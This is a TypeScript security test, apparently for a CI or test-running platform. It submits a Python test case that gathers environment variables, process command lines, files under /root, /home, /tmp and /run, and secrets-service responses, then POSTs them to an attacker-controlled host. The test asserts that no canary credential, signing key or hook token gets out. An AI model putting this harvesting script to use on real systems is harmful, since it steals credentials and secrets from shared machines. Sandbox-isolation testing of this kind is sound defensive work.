import { chmodSync } from 'node:fs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { z } from 'zod';
import { folderWith } from '../support/folder.ts';
import { SIGNING_KEY } from '../support/platform/platform.ts';
import { until } from '../support/until.ts';
import { type AbuseGround, CANARIES, type Send, startAbuseGround } from './ground.ts';

/** What the script could always read: that it arrives shows that the way out is open. */
const READABLE = 'what-anybody-may-read';

/** Sends all that a script can find on its machine, and what the secrets service says of other entries. */
const script = (host: string, safeReference: string, folder: string) => `
import os
import ssl
import urllib.request
from pathlib import Path

CONTEXT = ssl.create_default_context()
CONTEXT.check_hostname = False
CONTEXT.verify_mode = ssl.CERT_NONE
MOST_BYTES = 200_000
MOST_FILES = 3_000
SAFE_KEY, _, KEY = "${safeReference}".partition("/")


def send(data):
    request = urllib.request.Request("https://${host}/exfiltrated", data=data, method="POST")
    try:
        urllib.request.urlopen(request, timeout=30, context=CONTEXT)
    except urllib.error.HTTPError:
        pass  # It has arrived all the same.


def asked(query):
    address = os.environ["PLATFORM_SECRETS_SERVICE"]
    try:
        with urllib.request.urlopen(f"{address}?{query}", timeout=30, context=CONTEXT) as response:
            return response.read()
    except OSError as fault:
        return str(fault).encode()


def places():
    yield from Path("/proc").glob("[0-9]*/environ")
    yield from Path("/proc").glob("[0-9]*/cmdline")
    for top in ("${folder}", "/proc/self/cwd/..", "/tmp", "/var/tmp", "/dev/shm", "/data", "/root", "/home", "/run"):
        for folder, _, names in os.walk(top):
            yield from (Path(folder) / name for name in names)


def test_sends_what_it_finds():
    found = [b"${READABLE}", *(f"{name}={value}".encode() for name, value in os.environ.items())]
    found.append(asked(f"safe_key={SAFE_KEY}&key={KEY}"))
    for count, place in enumerate(places()):
        if count >= MOST_FILES:
            break
        try:
            if place.is_file():
                with place.open("rb") as file:
                    found.append(file.read(MOST_BYTES))
        except OSError:
            continue
    for start in range(0, len(found), 100):
        send(b"\\n".join(found[start : start + 100]))
`;

const Made = z.looseObject({ id: z.string() });
const Gatekeeper = z.looseObject({ webhook_url: z.url(), secret_key: z.string() });
const Ended = z.looseObject({ state: z.literal('dispatched'), status: z.int() });

let ground: AbuseGround;
beforeAll(async () => {
  ground = await startAbuseGround();
});
afterAll(() => ground?.close());

test('the author of a test gets no credential, hook token or key by what the test can read', async () => {
  const { member, admin } = ground.victim;
  // A file of the server's, as its signing key is one without SIGNING_KEY; the author has guessed where.
  const folder = folderWith({ 'signing-key': CANARIES.OWN_SECRET });
  chmodSync(folder, 0o700);
  const content = script(ground.theirs.host, ground.safeReference(), folder);
  const { id: testCase } = await made(member, '/test-cases', {
    file_name: 'test_it.py',
    content,
  });
  const body = { name: 'curious', test_case_ids: [testCase] };
  const { id: pipeline } = await made(member, '/pipelines', body);
  const hook = { name: 'deploy', pipeline_ids: [pipeline] };
  const answer = await admin('POST', '/gatekeepers', hook);
  const { webhook_url, secret_key } = Gatekeeper.parse(JSON.parse(answer.text));

  const { id } = await made(member, `/pipelines/${pipeline}/run`);
  const ended = await until(async () =>
    Ended.parse(JSON.parse((await member('GET', `/executions/${id}`)).text)),
  );
  expect(ended.status).toBe(1);
  expect(ground.theirs.arrivals(READABLE)).toBeGreaterThan(0);
  const hookToken = webhook_url.split('/').at(-1) ?? webhook_url;
  const secrets = [...Object.values(CANARIES), SIGNING_KEY, secret_key, hookToken];
  expect(secrets.filter((one) => ground.theirs.arrivals(one) > 0)).toEqual([]);
});

async function made(send: Send, path: string, body?: object): Promise<z.output<typeof Made>> {
  return Made.parse(JSON.parse((await send('POST', path, body)).text));
}
